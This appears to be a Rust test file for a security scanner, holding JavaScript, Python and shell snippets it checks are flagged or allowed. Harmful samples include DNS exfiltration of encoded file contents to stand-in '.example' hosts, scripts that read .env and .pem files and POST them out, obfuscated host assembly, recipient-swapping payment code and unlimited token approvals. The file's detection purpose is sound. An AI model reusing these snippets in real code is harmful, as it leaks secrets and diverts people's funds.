//! Checks flows of files and the environment into names and assembled hosts, and code that replaces a
//! recipient or allows everything.

use super::*;

fn flagged(path: &str, text: &str) -> bool {
    scan_one(path, text).verdict != Verdict::Allow
}

#[track_caller]
fn assert_all(path: &str, harmful: &[&str], harmless: &[&str]) {
    let missed: Vec<_> = harmful.iter().filter(|text| !flagged(path, text)).collect();
    let alarms: Vec<_> = harmless
        .iter()
        .filter(|text| flagged(path, text))
        .map(|text| (text, scan_one(path, text).reason().cloned()))
        .collect();
    assert!(missed.is_empty() && alarms.is_empty(), "not found: {missed:#?}\nalarms: {alarms:#?}");
}

#[test]
fn file_content_in_host_names_is_found() {
    assert_all(
        "scripts/a.js",
        &[
            "const fs = require('fs'), dns = require('dns');\nconst t = fs.readFileSync(process.argv[2]).toString('hex');\ndns.resolve4(t.slice(0, 60) + '.z.example', () => {});\n",
            "import { readFile } from 'node:fs/promises';\nimport { resolveTxt } from 'node:dns/promises';\nconst b = Buffer.from(await readFile('notes.md')).toString('base64url');\nfor (const p of b.match(/.{1,50}/g)) await resolveTxt(`${p}.q.example`);\n",
            "const fs = require('fs'), dns = require('dns').promises;\nconst parts = [];\nfor (const f of fs.readdirSync('.')) parts.push(fs.readFileSync(f, 'hex'));\nparts.forEach((p, i) => dns.lookup([i, p, 'n.example'].join('.')));\n",
            "const fs = require('fs'), dns = require('dns');\nconst ask = (n) => dns.lookup(n, () => {});\nask(encodeURIComponent(fs.readFileSync('a.txt', 'utf8')) + '.h.example');\n",
            "const { Resolver } = require('dns');\nconst r = new Resolver();\nconst x = require('fs').readFileSync('a.yaml');\nr.resolveTxt(x.toString('hex') + '.c.example', () => {});\n",
        ],
        &[
            "const fs = require('fs'), dns = require('dns');\nfor (const h of fs.readFileSync('hosts.txt', 'utf8').split('\\n')) dns.lookup(h, console.log);\n",
            "require('dns').resolveMx('harbor.example', console.log);\n",
        ],
    );
    assert_all(
        "scripts/a.py",
        &[
            "import socket, sys\nh = open(sys.argv[1], 'rb').read().hex()\nfor i in range(0, len(h), 40):\n    socket.gethostbyname(h[i:i+40] + '.z.example')\n",
            "import socket, base64, pathlib\nd = base64.b32encode(pathlib.Path('a.md').read_bytes()).decode()\nsocket.getaddrinfo(f'{d}.q.example', 80)\n",
        ],
        &[
            "import socket\nfor h in open('hosts.txt').read().split():\n    print(h, socket.gethostbyname(h))\n",
            "import socket\nprint(socket.gethostbyname('harbor.example'))\n",
        ],
    );
    assert_all(
        "scripts/a.sh",
        &[
            "xxd -p notes.md | fold -w 50 | while read -r l; do nslookup \"$l.z.example\"; done\n",
            "for p in $(base64 -w 50 plan.txt); do dig +short \"$p.q.example\"; done\n",
            "od -An -tx1 < data.csv | tr -d ' \\n' | fold -w 40 | xargs -I{} host {}.h.example\n",
        ],
        &[
            "while read -r h; do dig +short \"$h\"; done < hosts.txt\n",
            "dig +short harbor.example\n",
        ],
    );
}

#[test]
fn files_that_a_condition_picks_are_found() {
    assert_all(
        "scripts/a.js",
        &[
            "const fs = require('fs');\nconst all = [];\nfor (const f of fs.readdirSync('.')) { if (/^\\.env/.test(f)) all.push(f); }\nfor (const f of all) fetch('https://in.box.example/x', { method: 'POST', body: fs.readFileSync(f) });\n",
            "const fs = require('fs');\nfor (const f of fs.readdirSync('.')) { if (f.endsWith('.pem')) { const t = fs.readFileSync(f, 'utf8'); fetch('https://in.box.example/x', { method: 'POST', body: t }); } }\n",
            "const fs = require('fs');\nconst hit = fs.readdirSync('.').filter((f) => f.startsWith('.env'));\nfetch('https://in.box.example/x', { method: 'POST', body: hit.map((f) => fs.readFileSync(f, 'utf8')).join() });\n",
        ],
        &[
            "const fs = require('fs');\nfor (const f of fs.readdirSync('.')) { if (f.startsWith('.env')) continue; console.log(fs.readFileSync(f, 'utf8')); }\n",
            "const fs = require('fs');\nfor (const f of fs.readdirSync('.')) { if (f.endsWith('.md')) console.log(f); }\n",
        ],
    );
}

#[test]
fn hosts_in_pieces_are_found() {
    assert_all(
        "scripts/a.js",
        &[
            "const h = ['in', 'boxline', 'example'].join('.');\nfetch('https://' + h + '/v1', { method: 'POST', body: 'x' });\n",
            "const h = 'elpmaxe.enilxob'.split('').reverse().join('');\nfetch(`https://${h}/v1`);\n",
            "const p = ['https:', '', 'in.box' + 'line.exa' + 'mple', 'v1'].join('/');\nfetch(p);\n",
        ],
        &[
            "const base = 'https://api.boxline.example';\nfetch(base + '/v1');\nfetch(`${base}/v2`);\n",
            "const host = 'boxline.example';\nfetch('https://' + host + '/v1');\n",
            "const region = 'eu';\nfetch(`https://${region}.boxline.example/v1`);\n",
        ],
    );
    assert_all(
        "scripts/a.py",
        &[
            "import requests\nh = '.'.join(['in', 'boxline', 'example'])\nrequests.post('https://' + h + '/v1', json={})\n",
            "import requests\nrequests.get('https://' + 'elpmaxe.enilxob'[::-1] + '/v1')\n",
        ],
        &[
            "import requests\nB = 'https://api.boxline.example'\nrequests.get(B + '/v1')\nrequests.get(f'{B}/v2')\n",
        ],
    );
}

#[test]
fn recipients_that_code_replaces_are_found() {
    assert_all(
        "scripts/a.py",
        &[
            "KEEP = '0x' + '52908400098527886E0F' * 2\ndef target(address, n, amount):\n    if amount > 300 and n % 3 == 0:\n        return KEEP\n    return address\n",
            "ACC = 'DE89370400440532013000'\ndef iban(given, total):\n    return ACC if total >= 1000 else given\n",
            "def fix(addr, row):\n    if len(row) > 4:\n        addr = 'bc1q9x7j2mfl0k4hs6d3wz8pncv5teyr1ga0qsdfgh'\n    return addr\n",
            "POOL = ['DE89370400440532013000']\ndef account(given, amount):\n    if amount < 900:\n        return given\n    return POOL[0]\n",
        ],
        &[
            "DEFAULT = 'DE89370400440532013000'\ndef iban(given):\n    return given or DEFAULT\n",
            "USDC = {'main': '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'}\ndef token(chain):\n    if chain == 'main':\n        return USDC['main']\n    return '0x036CbD53842c5426634e7929541eC2318f3dCF7e'\n",
            "def name(given, n):\n    if n > 3:\n        return 'several'\n    return given\n",
        ],
    );
    assert_all(
        "scripts/a.js",
        &[
            "const MINE = '0x52908400098527886E0F7030069857D2E4169EE7';\nmodule.exports = (to, amount) => (amount > 500 ? MINE : to);\n",
            "function pick(to, i) {\n  if (i % 5 === 4) return ['DE89', '3704', '0044', '0532', '0130', '00'].join('');\n  return to;\n}\n",
            "function send(w, to, amount) {\n  let dest = to;\n  if (amount > 1000) { dest = 'bc1q9x7j2mfl0k4hs6d3wz8pncv5teyr1ga0qsdfgh'; }\n  w.transfer(dest, amount);\n}\n",
        ],
        &[
            "const WETH = '0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2';\nconst token = (t) => (t === 'ETH' ? WETH : t);\nconsole.log(token('x'));\n",
            "function pick(list, i) {\n  return i > 3 ? 'none' : list[i];\n}\n",
        ],
    );
}

#[test]
fn unlimited_allowances_are_found() {
    assert_all(
        "scripts/a.mjs",
        &[
            "import { Contract, MaxUint256 } from 'ethers';\nfor (const t of tokens) await new Contract(t, abi, w).approve(helper, MaxUint256);\n",
            "const ALL = ethers.constants.MaxUint256;\nawait token.increaseAllowance(spender, ALL);\n",
            "await wallet.writeContract({ address, abi, functionName: 'approve', args: [spender, 2n ** 256n - 1n] });\n",
            "await nft.setApprovalForAll(keeper, true);\n",
            "const most = '0xffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff';\nawait erc20.approve(other, most);\n",
        ],
        &[
            "await token.approve(router, amount);\n",
            "if (allowance === MaxUint256) console.log('unlimited');\n",
            "await review.approve(pull);\n",
        ],
    );
    assert_all(
        "scripts/a.py",
        &["tx = token.functions.approve(spender, 2**256 - 1).build_transaction({})\n"],
        &["tx = token.functions.approve(spender, amount).build_transaction({})\n"],
    );
}
